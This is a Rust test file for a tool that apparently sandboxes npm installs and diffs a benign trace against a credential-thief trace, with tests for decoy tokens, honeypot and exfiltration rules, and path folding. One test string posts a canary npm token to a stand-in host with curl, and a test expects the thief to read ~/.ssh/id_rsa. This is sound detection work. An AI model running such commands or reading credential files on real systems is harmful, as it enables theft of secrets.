use std::sync::Arc;

use belljar_event::{
    Call, Change as Renamed, Decoy, Decoys, Descriptor, End, Event, Exec, Fact, Name, NameAnswer,
    Open, Outcome, Status, Text,
};
use belljar_recorder::{Integrity, Reader, Start, Writer};
use proptest::prelude::*;

use super::*;
use crate::batch;
use crate::report::Report;
use crate::rules::RuleSet;
use crate::verdict::Verdict;

const THIEF: &[u8] = include_bytes!("../../../fixtures/traces/npm-credential-thief.bjt");
const BENIGN: &[u8] = include_bytes!("../../../fixtures/traces/npm-benign.bjt");

fn did(trace: &[u8]) -> Did {
    let mut reader = Reader::open(trace).unwrap();
    let rules = RuleSet::builtin();
    let mut gather = Gather::new(reader.start(), &rules, Alike::default());
    for entry in &mut reader {
        gather.push(&entry.unwrap());
    }
    gather.finish("t.bjt", &reader.integrity())
}

fn score(trace: &[u8], rules: &Arc<RuleSet>) -> Score {
    Score::of(&report(trace, rules))
}

#[test]
fn a_score_that_was_put_down_compares_like_the_report() {
    let score = score(THIEF, &RuleSet::builtin());
    let text = serde_json::to_string(&score).unwrap();
    let read: Score = serde_json::from_str(&text).unwrap();
    assert_eq!(read, score);
    assert!(score.findings.len() > 5);
    assert!(Rescored::of(&read, &score).is_same());
}

fn section(difference: &Difference, kind: Kind) -> &SectionDifference {
    difference
        .sections
        .iter()
        .find(|one| one.kind == kind)
        .unwrap()
}

fn whats(lines: &[Line]) -> Vec<&str> {
    lines.iter().map(|line| line.what.as_str()).collect()
}

// What is folded.

#[test]
fn each_row_of_the_table_takes_what_it_is_for_and_no_more() {
    assert!(alike::compiles());
    let alike = Alike::default();
    for (raw, folded) in [
        ("/proc/417/stat", "/proc/#/stat"),
        ("/proc/self/task/12/comm", "/proc/self/task/#/comm"),
        ("/dev/pts/3", "/dev/pts/#"),
        ("pipe:[12345]", "pipe:[#]"),
        ("/c/_cacache/tmp/3f2a9b1c", "/c/_cacache/tmp/#"),
        (
            "/c/_cacache/content-v2/sha512/ab/cd/ef",
            "/c/_cacache/content-v2/#",
        ),
        (
            "/tmp/node-compile-cache/v22-x64-1/ab.Xy12",
            "/tmp/node-compile-cache/#",
        ),
        (
            "/l/_logs/2026-01-02T03_04_05_006Z-debug-0.log",
            "/l/_logs/#-debug-0.log",
        ),
        (
            "/p/node_modules/.left-pad-Xa3bT9qZ/a",
            "/p/node_modules/.left-pad-#/a",
        ),
        (
            "/p/node_modules/@s/.left-pad-Xa3bT9qZ",
            "/p/node_modules/@s/.left-pad-#",
        ),
        ("/tmp/tmpab_1cd2e/x", "/tmp/tmp#/x"),
        ("/tmp/tmp.Ab3De6Gh9J", "/tmp/tmp.#"),
        ("/tmp/pip-install-k2_9xw1a/six", "/tmp/pip-install-#/six"),
        ("/d/RECORDct0_3otc.tmp", "/d/RECORD#.tmp"),
        ("/d/a.cpython-311.pyc.139823", "/d/a.cpython-311.pyc.#"),
        ("/tmp/ccX3fQ2a.o", "/tmp/cc#.o"),
        ("/tmp/npm-aB3dE6/x", "/tmp/npm-#/x"),
        ("a 6ba7b810-9dad-11d1-80b4-00c04fd430c8 b", "a #uuid b"),
        ("/x/0123456789abcdef0123456789abcdef.js", "/x/#digest.js"),
        ("2026-11-22 06:51:42.123Z done", "#time done"),
        ("--since=1700000000", "--since=#time"),
        ("--since=1700000000123", "--since=#time"),
        ("127.0.0.1:45123", "127.0.0.1:#"),
    ] {
        assert_eq!(alike.text(raw), folded, "{raw}");
        assert_eq!(alike.text(&alike.text(raw)), alike.text(raw), "{raw}");
    }
    for stays in [
        "/usr/lib/node_modules/npm/bin/npm-cli.js",
        "/tmp/build-script",
        "/tmp/backdoor",
        "/tmp/npm-helper",
        "/tmp/ccache",
        "/p/node_modules/.package-lock.json",
        "/p/node_modules/.bin/node-gyp",
        "/p/left-pad-1.2.3.tgz",
        "node --max-old-space-size=4096",
        "files.example:443",
        "127.0.0.1:8080",
        "198.51.100.7:40000",
        "sh -c echo 12345678",
        "/opt/deadbeef/x",
        "/procfs/12",
    ] {
        assert_eq!(alike.text(stays), stays);
    }
    let names: Vec<_> = folds().collect();
    assert!(names.len() > 20 && names.iter().all(|name| !name.is_empty()));
}

#[test]
fn what_belongs_to_the_run_alone_is_folded() {
    let mut alike = Alike::with(&["1\\.2\\.[23]".to_owned()]).unwrap();
    alike.decoys(&Decoys {
        decoys: vec![Decoy {
            path: "/home/sam/.npmrc".into(),
            kind: "npm token".into(),
            canary: "q7Yw2kPz8LmNb4".into(),
        }],
    });
    for (raw, folded) in [
        ("/home/sam/.npmrc", "~/.npmrc"),
        ("/home/sam", "~"),
        ("/home/samuel/x", "/home/samuel/x"),
        ("cd /home/sam/project && ls", "cd ~/project && ls"),
        (
            "curl -d q7Yw2kPz8LmNb4 a.example",
            "curl -d #canary(npm token) a.example",
        ),
        ("npm i tool@1.2.2", "npm i tool@#"),
    ] {
        assert_eq!(alike.text(raw), folded, "{raw}");
    }
    let wrong = Alike::with(&["(".to_owned()]).unwrap_err();
    assert!(wrong.to_string().contains("\"(\""), "{wrong}");
    Alike::with(&[String::new()]).unwrap_err();
}

#[test]
fn eight_letters_are_folded_only_where_nobody_could_use_them() {
    assert!(alike::roomy("/tmp/zcrrsss_", &["made", "removed"]));
    assert!(alike::roomy(
        "/tmp/zcrrsss_",
        &["made", "removed", "written"]
    ));
    assert!(!alike::roomy("/tmp/backdoor", &["made", "written"]));
    assert!(!alike::roomy("/tmp/backdoor", &["made", "read", "removed"]));
    assert!(!alike::roomy("/tmp/Backdoor", &["made", "removed"]));
    assert!(!alike::roomy("/home/zcrrsss_", &["made", "removed"]));
}

// Recorded runs.

#[test]
fn a_run_is_the_same_as_itself() {
    for trace in [THIEF, BENIGN] {
        let one = did(trace);
        let none = Difference::of(&one, &one);
        assert!(none.is_empty(), "{}", none.to_table(100, true));
        assert!(section(&none, Kind::Files).same > 500);
        assert!(section(&none, Kind::Processes).same >= 3);
    }
}

#[test]
fn a_thief_differs_from_the_benign_in_what_matters() {
    let (benign, thief) = (did(BENIGN), did(THIEF));
    let difference = Difference::of(&benign, &thief);
    let verdict = &section(&difference, Kind::Verdict).changed;
    assert_eq!(
        (verdict[0].from.as_str(), verdict[0].to.as_str()),
        ("SAFE", "MALICIOUS")
    );
    let findings = whats(&section(&difference, Kind::Findings).new);
    assert!(
        findings.iter().any(|one| one.starts_with("L4-HONEY-001  ")),
        "{findings:?}"
    );
    let files = whats(&section(&difference, Kind::Files).new);
    let key = section(&difference, Kind::Files);
    assert!(
        files.contains(&"~/.ssh/id_rsa"),
        "{files:?} {:?}",
        key.changed
    );
    assert!(!section(&difference, Kind::Destinations).new.is_empty());
    let page = difference.to_table(100, false);
    assert!(page.contains("  ~ verdict  [SAFE → MALICIOUS]"), "{page}");
    let json: serde_json::Value = serde_json::from_str(&difference.to_json()).unwrap();
    assert_eq!(json["same"], false);
    assert_eq!(json["sections"][0]["kind"], "verdict");
}

#[test]
fn a_long_list_is_cut_in_the_table_and_says_so() {
    let mut a = did(BENIGN);
    let b = a.clone();
    let files = a.sections.get_mut(&Kind::Files).unwrap();
    for n in 0..60 {
        files.add(format!("/gone/{n}"), &["read"], Some(1), 1);
    }
    let difference = Difference::of(&a, &b);
    let (short, long) = (
        difference.to_table(100, false),
        difference.to_table(100, true),
    );
    assert!(short.contains("… 20 more; --all lists them"), "{short}");
    assert!(
        !long.contains("--all") && long.matches("/gone/").count() == 60,
        "{long}"
    );
}

// Other rules.

fn report(trace: &[u8], rules: &Arc<RuleSet>) -> Report {
    batch::judge(trace, rules).unwrap().report
}

fn without(left_out: &str) -> Arc<RuleSet> {
    let sources = RuleSet::builtin_sources().iter();
    let sources: Vec<_> = sources
        .filter(|(name, _)| !name.contains(left_out))
        .map(|(name, text)| ((*name).to_owned(), (*text).to_owned()))
        .collect();
    assert!(
        sources.len() < RuleSet::builtin_sources().len(),
        "{left_out}"
    );
    Arc::new(RuleSet::load(&sources).unwrap())
}

#[test]
fn a_rule_more_is_findings_more_and_the_other_way_round() {
    let (all, few) = (RuleSet::builtin(), without("L4-HONEY-001.yaml"));
    let (with, less) = (score(THIEF, &all), score(THIEF, &few));
    let more = Rescored::of(&less, &with);
    assert_eq!(more.appeared.len(), 6);
    assert!(more.appeared.iter().all(|note| note.rule == "L4-HONEY-001"));
    assert!(
        more.disappeared.is_empty() && more.changed.is_empty(),
        "{more:?}"
    );
    let less = Rescored::of(&with, &less);
    assert_eq!((less.appeared.len(), less.disappeared.len()), (0, 6));
    assert_eq!((less.from, less.to), (more.to, more.from));
    let same = Rescored::of(&with, &with);
    assert!(same.is_same() && !same.verdict_changed());
    assert!(!more.is_same());
}

#[test]
fn a_severity_that_a_person_changed_is_a_change() {
    let rules = RuleSet::builtin();
    let text = "severity:\n  - {rule: L4-HONEY-001, is: low, reason: ours, until: 2030-01-01}\n\
                suppress:\n  - {rule: L4-EXFIL-005, reason: ours, until: 2030-01-01}\n";
    let decided = crate::suppress::Suppressions::load("d", text, "2026-01-01", &rules).unwrap();
    let other = Arc::new(RuleSet::clone(&rules).with_suppressions(decided));
    let change = Rescored::of(&score(THIEF, &rules), &score(THIEF, &other));
    let ways: Vec<_> = change
        .changed
        .iter()
        .map(|one| (one.rule.as_str(), one.from.as_str(), one.to.as_str()))
        .collect();
    assert_eq!(ways.len(), 7, "{ways:?}");
    assert!(ways.contains(&("L4-HONEY-001", "critical", "low")));
    assert!(ways.contains(&("L4-EXFIL-005", "critical", "suppressed")));
    assert!(change.appeared.is_empty() && change.disappeared.is_empty());
    assert_eq!(change.from, Verdict::Malicious);
}

// Runs made up.

/// Something that a process does.
#[derive(Clone, Debug)]
enum Act {
    Exec(u8),
    Read(u8),
    Write(u8),
    Move(u8),
    Ask(u8),
}

fn act() -> impl Strategy<Value = Act> {
    let n = 0u8..6;
    prop_oneof![
        n.clone().prop_map(Act::Exec),
        n.clone().prop_map(Act::Read),
        n.clone().prop_map(Act::Write),
        n.clone().prop_map(Act::Move),
        n.prop_map(Act::Ask),
    ]
}

/// What up to four processes do, each in its own order and its own folder.
fn runs() -> impl Strategy<Value = Vec<Vec<Act>>> {
    prop::collection::vec(prop::collection::vec(act(), 0..8), 1..5)
}

fn call(name: &str) -> Call {
    let row = belljar_event::CALLS.iter().find(|row| row.name == name);
    Call(row.unwrap().number)
}

fn open(path: &str, flags: u32) -> Fact {
    let path = Text::new(path);
    Open {
        call: call("openat"),
        path: path.clone(),
        base: None,
        file: Some(path),
        flags,
        mode: 0o644,
    }
    .into()
}

fn exec(pid: u32, n: u8) -> Fact {
    let path = Text::new(format!("/usr/bin/tool{n}"));
    Exec {
        call: call("execve"),
        parent: 1,
        path: path.clone(),
        file: Some(path),
        interpreter: None,
        argv: vec![
            Text::new(format!("tool{n}")),
            Text::new(format!("/w/{pid}")),
        ],
        argv_bytes: 0,
        cwd: None,
        uid: 1000,
        stdio: [Descriptor::File; 3],
        unlinked: false,
        content: None,
        inherited: Vec::new(),
    }
    .into()
}

fn moved(pid: u32, n: u8) -> Fact {
    Renamed {
        call: call("rename"),
        path: Text::new(format!("/w/{pid}/{n}")),
        base: None,
        other: Some(Text::new(format!("/w/{pid}/moved{n}"))),
        other_base: None,
        value: 0,
        file: None,
        other_file: None,
    }
    .into()
}

fn fact(pid: u32, act: &Act) -> Fact {
    match act {
        Act::Exec(n) => exec(pid, *n),
        Act::Read(n) => open(&format!("/usr/lib/{n}"), 0),
        Act::Write(n) => open(&format!("/w/{pid}/{n}"), 0o101),
        Act::Move(n) => moved(pid, *n),
        Act::Ask(n) => Name {
            name: Text::new(format!("n{n}.example")),
            kind: 1,
            answer: NameAnswer::Refused,
            by: "allow:1".into(),
        }
        .into(),
    }
}

/// The run in which `order` says whose turn it is.
fn made(runs: &[Vec<Act>], order: &[u8]) -> Did {
    let mut left: Vec<_> = runs.iter().map(|acts| acts.iter()).collect();
    let mut events: Vec<(u32, Fact)> = Vec::new();
    let mut take = |at: usize| {
        if let Some(act) = left[at].next() {
            let pid = 100 + u32::try_from(at).unwrap();
            events.push((pid, fact(pid, act)));
        }
    };
    for turn in order {
        take(usize::from(*turn) % runs.len());
    }
    for (at, acts) in runs.iter().enumerate() {
        acts.iter().for_each(|_| take(at));
    }
    let mut bytes = Vec::new();
    let mut writer = Writer::create(&mut bytes, Start::default()).unwrap();
    for ((pid, fact), at) in events.into_iter().zip(1u64..) {
        let outcome = match &fact {
            Fact::Name(_) => Outcome::None,
            _ => Outcome::Returned(0),
        };
        let event = Event {
            at: at * 1000,
            pid,
            tid: pid,
            outcome,
            fact,
        };
        writer.append(event).unwrap();
    }
    writer.finish(End::Finished(Status::Code(0))).unwrap();
    did(&bytes)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn the_order_of_what_is_independent_makes_no_difference(
        runs in runs(),
        one in prop::collection::vec(any::<u8>(), 0..24),
        other in prop::collection::vec(any::<u8>(), 0..24),
    ) {
        let (a, b) = (made(&runs, &one), made(&runs, &other));
        let difference = Difference::of(&a, &b);
        prop_assert!(difference.is_empty(), "{}", difference.to_table(100, true));
    }

    #[test]
    fn the_other_way_round_new_is_gone(
        one in runs(),
        other in runs(),
        order in prop::collection::vec(any::<u8>(), 0..24),
    ) {
        let (a, b) = (made(&one, &order), made(&other, &order));
        let (there, back) = (Difference::of(&a, &b), Difference::of(&b, &a));
        prop_assert_eq!(there.same, back.same);
        for (there, back) in there.sections.iter().zip(&back.sections) {
            prop_assert_eq!(&there.new, &back.gone);
            prop_assert_eq!(&there.gone, &back.new);
            prop_assert_eq!(there.same, back.same);
            let turned = back.changed.iter().map(|one| (&one.what, &one.to, &one.from));
            let straight = there.changed.iter().map(|one| (&one.what, &one.from, &one.to));
            prop_assert!(straight.eq(turned));
        }
        // Nothing is lost: a row stands in one of the lists, or is the same.
        for (section, kind) in there.sections.iter().zip(Kind::ALL) {
            let rows = |did: &Did| did.sections.get(&kind).map_or(0, |one| one.rows.len());
            let both = usize::try_from(section.same).unwrap() + section.changed.len();
            prop_assert_eq!(rows(&a), both + section.gone.len());
            prop_assert_eq!(rows(&b), both + section.new.len());
        }
    }

    #[test]
    fn folding_twice_is_folding_once(text in "[ -~]{0,80}") {
        let alike = Alike::default();
        let once = alike.text(&text);
        prop_assert_eq!(alike.text(&once), once);
    }
}

#[test]
fn looking_for_a_program_along_the_path_is_no_program() {
    let attempts = |errors: &[i64]| {
        let mut bytes = Vec::new();
        let mut writer = Writer::create(&mut bytes, Start::default()).unwrap();
        for (n, at) in errors.iter().zip(1u64..) {
            let Fact::Exec(mut exec) = exec(100, 0) else {
                unreachable!()
            };
            exec.file = Some(Text::new(format!("/p{at}/tool0")));
            exec.path = Text::new(format!("/p{at}/tool0"));
            let event = Event {
                at,
                pid: 100,
                tid: 100,
                outcome: Outcome::Returned(*n),
                fact: Fact::Exec(exec),
            };
            writer.append(event).unwrap();
        }
        writer.finish(End::Finished(Status::Code(0))).unwrap();
        let rows = did(&bytes).sections[&Kind::Processes].rows.clone();
        let row = |(what, row): (String, Row)| format!("{what} [{}]", row.state());
        rows.into_iter().map(row).collect::<Vec<_>>()
    };
    assert_eq!(attempts(&[-2, -2, 0]), ["/p3/tool0  tool0 /w/100 [ran]"]);
    assert_eq!(attempts(&[-2, -2]), ["tool0 /w/100 [not found]"]);
    assert_eq!(
        attempts(&[-13, 0]),
        [
            "/p1/tool0  tool0 /w/100 [failed]",
            "/p2/tool0  tool0 /w/100 [ran]"
        ]
    );
}

#[test]
fn a_cut_trace_says_so() {
    let half = BENIGN.get(..BENIGN.len() / 2).unwrap();
    let (whole, cut) = (did(BENIGN), did(half));
    assert!(!cut.about.complete && cut.about.why.is_some());
    let difference = Difference::of(&whole, &cut);
    assert!(!section(&difference, Kind::Incomplete).new.is_empty());
    assert!(difference.to_table(100, false).contains("✗ CUT: "));
    assert!(matches!(
        Reader::open(half).map(|mut reader| {
            reader.by_ref().for_each(drop);
            reader.integrity()
        }),
        Ok(Integrity::Cut { .. })
    ));
}
